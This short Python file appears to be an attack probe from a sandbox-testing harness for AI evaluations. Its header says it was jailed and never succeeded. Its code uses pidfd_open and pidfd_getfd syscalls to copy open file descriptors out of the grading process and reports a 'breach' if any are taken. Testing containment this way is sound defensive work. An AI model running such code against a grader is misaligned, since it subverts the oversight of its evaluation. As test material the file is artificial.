# /// attack
# title = "Takes open files out of the process that grades with pidfd_getfd"
# stopped_at = "jailed"
# proven = "never"
# ///
import ctypes

from loot import breach


def attack(*arguments, **keywords):
    call = ctypes.CDLL(None, use_errno=True).syscall
    process = call(434, int("@EXAM@"), 0)
    stolen = [number for number in range(3, 20) if process >= 0 and call(438, process, number, 0) >= 0]
    return breach(f"took {len(stolen)}") if stolen else None
